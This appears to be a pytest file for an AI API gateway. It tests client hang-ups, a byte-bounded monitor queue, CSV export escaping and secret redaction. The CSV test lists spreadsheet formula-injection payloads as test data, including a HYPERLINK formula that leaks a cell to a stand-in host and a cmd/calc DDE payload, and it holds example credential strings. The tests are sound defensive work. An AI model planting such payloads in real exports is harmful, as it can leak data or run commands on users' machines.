"""Issue 11, the monitor and client hang-ups: a byte-bounded record queue (8), safe CSV
cells (13), stream aborts recorded as 499 without errors (14), hang-ups before the first
byte cancel the upstream call (15), and redaction of every stored column (16)."""

from __future__ import annotations

import asyncio
import csv
import io
import socket
import sqlite3
import time
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import orjson
import pytest
from fake_google import Fault
from pydantic import ValidationError

from agproxy.config import Settings
from agproxy.monitor.record import RequestRecord
from agproxy.monitor.redact import capture_text, redact
from agproxy.monitor.writer import BODY_DROPPED, MonitorWriter
from conftest import Borrowed, Gateway, borrow, gateway_with, google_env, spawn, store_rows

CHAT = {"model": "gemini-3-flash", "messages": [{"role": "user", "content": "hello"}]}
ERRORS = ("RuntimeError", "Traceback")


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory, fake_google_server: Any) -> Iterator[Gateway]:
    """One gateway for the tests that need no process of their own. Hang-ups must leave no
    error in its output, up to and including a clean stop at the end."""
    gw = spawn(tmp_path_factory.mktemp("hardening") / "gw", **google_env(fake_google_server))
    yield gw
    assert gw.stop() == 0
    output = gw.log()
    assert not any(error in output for error in ERRORS), output


@pytest.fixture
def shared(gateway: Gateway, fake_google: Any) -> Iterator[Borrowed]:
    """The module's gateway with an empty monitor: the records are this test's own."""
    with borrow(gateway, fake_google) as turn:
        assert gateway.admin("POST", "/api/logs/clear").status_code == 200
        yield turn


def logs(gw: Gateway, **params: Any) -> list[dict[str, Any]]:
    return gw.admin("GET", "/api/logs", params=params).json()["logs"]


def wait_for_logs(gw: Gateway, n: int = 1, seconds: float = 5) -> list[dict[str, Any]]:
    deadline = time.monotonic() + seconds
    while len(records := logs(gw)) < n:
        assert time.monotonic() < deadline, f"{len(records)} records, expected {n}"
        time.sleep(0.1)
    return records


def metric(gw: Gateway, name: str) -> float:
    response = gw.admin("GET", "/metrics")
    assert response.status_code == 200, response.text
    for line in response.text.splitlines():
        if line.startswith(name + " "):
            return float(line.split()[1])
    raise AssertionError(f"{name} not in /metrics:\n{response.text}")


def raw_request(gw: Gateway, path: str, body: dict[str, Any]) -> socket.socket:
    """A request sent whole on a plain socket, left open for the caller to close."""
    data = orjson.dumps(body)
    sock = socket.create_connection(("127.0.0.1", gw.port))
    sock.sendall(
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json"
        f"\r\nContent-Length: {len(data)}\r\n\r\n".encode()
        + data
    )
    return sock


# -- 15: a hang-up before the first byte --------------------------------------------------
def test_a_hang_up_before_the_answer_cancels_the_upstream_call(
    shared: Borrowed, fake_google: Any
) -> None:
    gw = shared.gw
    [acct] = shared.add_accounts(1)
    # The upstream sends one event, then stalls: the gateway is collecting a non-streamed
    # answer and has sent the client nothing.
    fake_google.inject(Fault.stall(20), email=acct.email)
    sock = raw_request(gw, "/v1/chat/completions", CHAT)
    deadline = time.monotonic() + 10
    while not fake_google.calls("streamGenerateContent"):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    time.sleep(0.3)
    sock.close()
    closed = time.monotonic()
    [record] = wait_for_logs(gw)
    assert record["status"] == 499
    assert record["error"] == "client closed the connection before an answer"
    # The upstream saw its caller go within moments, not when its 20 s stall ended.
    while not fake_google.disconnects:
        assert time.monotonic() - closed < 3, "the upstream call ran on"
        time.sleep(0.05)
    assert record["duration_ms"] < 5000
    # The gateway serves on normally.
    assert (
        httpx.post(gw.base_url + "/v1/chat/completions", json=CHAT, timeout=30).status_code == 200
    )


def test_a_hang_up_while_a_stream_waits_for_its_first_event_is_a_prompt_499(
    shared: Borrowed, fake_google: Any
) -> None:
    gw = shared.gw
    [acct] = shared.add_accounts(1)
    fake_google.inject(Fault.slow(8), email=acct.email)  # no answer at all for 8 s
    sock = raw_request(
        gw,
        "/v1/messages",
        {
            "model": "claude-sonnet-4-6",
            "max_tokens": 50,
            "stream": True,
            "messages": [{"role": "user", "content": "never mind"}],
        },
    )
    deadline = time.monotonic() + 10
    while not fake_google.calls("streamGenerateContent"):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    sock.close()
    [record] = wait_for_logs(gw, seconds=4)  # not when the upstream answers, 8 s on
    assert (record["status"], record["error"]) == (
        499,
        "client closed the connection before an answer",
    )
    assert record["ttfb_ms"] is None


# -- 14: a stream aborted by its client ---------------------------------------------------
STREAMS = {
    "anthropic": (
        "/v1/messages",
        {
            "model": "claude-sonnet-4-6",
            "max_tokens": 50,
            "stream": True,
            "messages": [{"role": "user", "content": "hang up"}],
        },
    ),
    "openai": ("/v1/chat/completions", {**CHAT, "stream": True}),
    "responses": ("/v1/responses", {"model": "gemini-3-flash", "stream": True, "input": "hang up"}),
    "gemini": (
        "/v1beta/models/gemini-3-flash:streamGenerateContent?alt=sse",
        {"contents": [{"role": "user", "parts": [{"text": "hang up"}]}]},
    ),
}


@pytest.mark.parametrize("protocol", list(STREAMS))
def test_a_stream_aborted_mid_way_is_recorded_as_499_without_errors(
    shared: Borrowed, fake_google: Any, protocol: str
) -> None:
    gw = shared.gw
    [acct] = shared.add_accounts(1)
    shared.configure(stream_ping_seconds=0.2)
    log_start = len(gw.output)
    fake_google.inject(Fault.stall(20), email=acct.email)
    path, body = STREAMS[protocol]
    with httpx.stream("POST", gw.base_url + path, json=body, timeout=30) as response:
        assert response.status_code == 200
        for line in response.iter_lines():
            if line.startswith("data: "):
                break  # the first event is here; hang up while the upstream stalls
    time.sleep(0.5)  # pings (anthropic) keep flowing to a closed socket meanwhile
    [record] = wait_for_logs(gw)
    assert record["status"] == 499, record
    assert record["error"] == "client closed the connection after a 200 began"
    deadline = time.monotonic() + 3
    while not fake_google.disconnects:  # the upstream call was closed too
        assert time.monotonic() < deadline, "the upstream call ran on"
        time.sleep(0.05)
    # No error so far; the module's gateway also checks its whole output after a clean stop.
    output = "".join(gw.output[log_start:])
    assert not any(error in output for error in ERRORS), output


# -- 8: a queue bounded in bytes ------------------------------------------------------------
def rss_mib(gw: Gateway) -> float:
    with open(f"/proc/{gw.proc.pid}/status") as status:
        return int(status.read().split("VmRSS:")[1].split()[0]) / 1024


def test_a_locked_database_sheds_captured_bodies_and_memory_stays_bounded(
    gateway_factory: Any, fake_google: Any
) -> None:
    gw, _ = gateway_with(
        gateway_factory,
        fake_google,
        AGPROXY_MONITOR_CAPTURE_BODIES="true",
        AGPROXY_MONITOR_BODY_MAX_BYTES="262144",
        AGPROXY_MONITOR_QUEUE_MAX_BYTES=str(4 * 1024 * 1024),
    )
    big = {"model": "gemini-3-flash", "messages": [{"role": "user", "content": "x" * 2**20}]}
    with httpx.Client(base_url=gw.base_url, timeout=60) as client:
        for _ in range(3):  # warm up: the first large bodies set the allocator's pools
            assert client.post("/v1/chat/completions", json=big).status_code == 200
        wait_for_logs(gw, 3)
        before = rss_mib(gw)
        # Another program holds the write lock (a sqlite3 shell, a backup, a CLI command).
        holder = sqlite3.connect(gw.data_dir / "agproxy.db", isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")
        try:
            for _ in range(60):  # 60 × ~2 MiB of raw captures, request and response
                assert client.post("/v1/chat/completions", json=big).status_code == 200
            held = rss_mib(gw)
        finally:
            holder.execute("COMMIT")  # (/metrics reads accounts: it waits for the lock)
            holder.close()
    assert held - before < 40, f"RSS grew from {before:.0f} to {held:.0f} MiB"
    records = wait_for_logs(gw, 63, seconds=20)
    assert metric(gw, "agproxy_monitor_bodies_dropped_total") > 30
    assert metric(gw, "agproxy_monitor_dropped_total") == 0
    assert {r["status"] for r in records} == {200}
    # Shed records say why their bodies are missing; the newest kept theirs.
    newest = gw.admin("GET", f"/api/logs/{records[0]['id']}").json()
    assert newest["request_body"].startswith('{"model":"gemini-3-flash"'), newest["request_body"][
        :300
    ]
    shed = [gw.admin("GET", f"/api/logs/{r['id']}").json()["request_body"] for r in records[1:]]
    assert sum("[not kept: the monitor queue was full" in body for body in shed) > 30
    assert metric(gw, "agproxy_monitor_queue_bytes") == 0
    assert rss_mib(gw) - before < 40


def test_the_queue_sheds_the_oldest_bodies_then_records_and_accounts_every_byte(
    store: Any,
) -> None:
    limit = 1024 * 1024
    settings = Settings(api_key="sk-test-000000", monitor_queue_max_bytes=limit)
    writer = MonitorWriter(store, lambda: settings)

    def captured(i: int) -> RequestRecord:
        record = RequestRecord("openai", "POST", f"/v1/{i}", None, status=200)
        record.request_body = bytearray(b"q" * 200_000)
        record.response_body = bytearray(b"a" * 200_000)
        return record

    first = [captured(i) for i in range(6)]
    for record in first:
        writer.submit(record)
        assert writer.queue_bytes <= limit
    assert writer.metrics.bodies_dropped == 4 and writer.dropped == 0
    assert [r.request_body == BODY_DROPPED for r in first] == [True] * 4 + [False] * 2
    for i in range(2000):  # ~2 MiB of records without bodies: the last bodies go, then records
        writer.submit(RequestRecord("openai", "POST", f"/v1/plain/{i}", None, status=200))
    assert writer.metrics.bodies_dropped == 6 and 0 < writer.dropped < 2000
    assert writer.queue_bytes <= limit and not any(r.request_body != BODY_DROPPED for r in first)
    asyncio.run(writer.flush())
    assert writer.queue_bytes == 0 and not writer.queue
    assert writer.written == len(first) + 2000 - writer.dropped


@pytest.mark.parametrize("bad", [0, 1000, True, 5 * 1024**3, "lots"])
def test_the_queue_bound_is_checked(bad: object) -> None:
    with pytest.raises(ValidationError, match="monitor_queue_max_bytes"):
        Settings(monitor_queue_max_bytes=bad)
    assert Settings(monitor_queue_max_bytes=2**20).monitor_queue_max_bytes == 2**20


# -- 13: CSV cells that a spreadsheet would run ----------------------------------------------
def test_the_csv_export_escapes_formula_cells(shared: Borrowed) -> None:
    gw = shared.gw
    shared.add_accounts(1)
    shared.configure(auth_mode="strict")
    formulas = [
        '=HYPERLINK("evil.example/?leak="&A1,"report")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1;A9)",
        "\tTAB",
        "\r=1+1",
    ]
    for model in formulas:  # refused by auth (no key): the model comes from the path
        response = httpx.post(
            gw.base_url + f"/v1beta/models/{quote(model, safe='')}:generateContent",
            json={"contents": []},
        )
        assert response.status_code == 401
    exported = gw.admin("GET", "/api/stats/export.csv", params={"bucket": "day"})
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    models = {r["model"] for r in rows}
    assert models == {"'" + m for m in formulas}, (sorted(models), exported.text)
    assert all(r["account"] == "-" for r in rows)  # the placeholder is left alone


# -- 16: redaction of every stored column and of escaped secrets ------------------------------
def test_every_stored_column_is_redacted(shared: Borrowed) -> None:
    password = "admin-pass-" + uuid.uuid4().hex
    gw = shared.gw
    shared.add_accounts(1)
    shared.configure(auth_mode="strict", monitor_capture_bodies=True, admin_password=password)
    key = gw.api_key
    github = "ghp_" + uuid.uuid4().hex[:36]
    escaped_key = key[:3] + "".join(f"\\u{ord(c):04x}" for c in key[3:])
    refresh = "1//0g" + uuid.uuid4().hex
    body = (
        f'{{"model": "gemini-3-flash", "messages": [{{"role": "user", "content": '
        f'"key {escaped_key}, refresh {refresh.replace("/", chr(92) + "/")}, {github}, '
        f"AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY "
        f"xoxb-123456789012-abcdefghijkl -----BEGIN RSA PRIVATE KEY-----\\nMIIEow\\n"
        f'-----END RSA PRIVATE KEY-----"}}]}}'
    )
    response = httpx.post(
        gw.base_url + "/v1/chat/completions",
        content=body.encode(),
        headers={
            "Authorization": f"Bearer {key}",
            "Content-Type": "application/json",
            "User-Agent": f"curl/8 (key {key}; pw {password})",
        },
    )
    assert response.status_code == 200, response.text
    # A model id that is a secret, refused for want of a key.
    httpx.post(
        gw.base_url + f"/v1beta/models/{password}:generateContent",
        headers={"User-Agent": f"bot {github}"},
        json={"contents": []},
    )
    records = wait_for_logs(gw, 2)
    rows = store_rows(gw.data_dir, "SELECT * FROM request_logs")
    stored = str(rows)
    for secret in (
        key,
        key[3:],
        password,
        github,
        refresh,
        refresh[3:],
        "AKIAIOSFODNN7EXAMPLE",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "xoxb-123456789012",
        "MIIEow",
        escaped_key[3:20],
    ):
        assert secret not in stored, secret
    refused, chat = records
    assert refused["requested_model"] == "[redacted]"
    assert refused["user_agent"] == "bot [redacted]"
    assert chat["user_agent"] == "curl/8 (key [redacted]; pw [redacted])"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ('{"k": "sk-\\u0061bcdefghijkl"}', '{"k": "[redacted]"}'),
        ('{"t": "1\\/\\/0gAbCdEfGhIjKlMn"}', '{"t": "[redacted]"}'),
        ("\\u0073k-abcdefghijkl", "[redacted]"),
        (
            "gho_" + "a1B2" * 9 + " github_pat_11ABCDEFG0123456789_abcdefghij",
            "[redacted] [redacted]",
        ),
        (
            "ASIAY34FZKBOKMUTVV7A and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "[redacted] and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709",
        ),
        ("secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY;", "secret=[redacted];"),
        ("xoxp-1234-5678-abcdefghij ok", "[redacted] ok"),
        (
            "a -----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY----- z",
            "a [redacted] z",
        ),
        ("cut -----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN", "cut [redacted]"),
        (
            '{"client_secret": "x", "private_key": "y", "credentials": "z"}',
            '{"client_secret": "[redacted]", "private_key": "[redacted]", "credentials": "[redacted]"}',
        ),
        ("an escaped backslash \\\\u0061 stays", "an escaped backslash \\\\u0061 stays"),
    ],
)
def test_redaction_of_escaped_forms_and_more_key_shapes(text: str, kept: str) -> None:
    assert redact(text) == kept


def test_a_password_written_with_json_escapes_is_redacted() -> None:
    password = 'pa"ss\\word-long'
    spelled = "".join(f"\\u{ord(c):04x}" for c in password).encode()
    raw = b'{"text": "pw ' + orjson.dumps(password)[1:-1] + b" and " + spelled + b'"}'
    out = capture_text(raw, 10_000, False, (password,))
    assert "ss" not in out and out.count("[redacted]") == 2, out
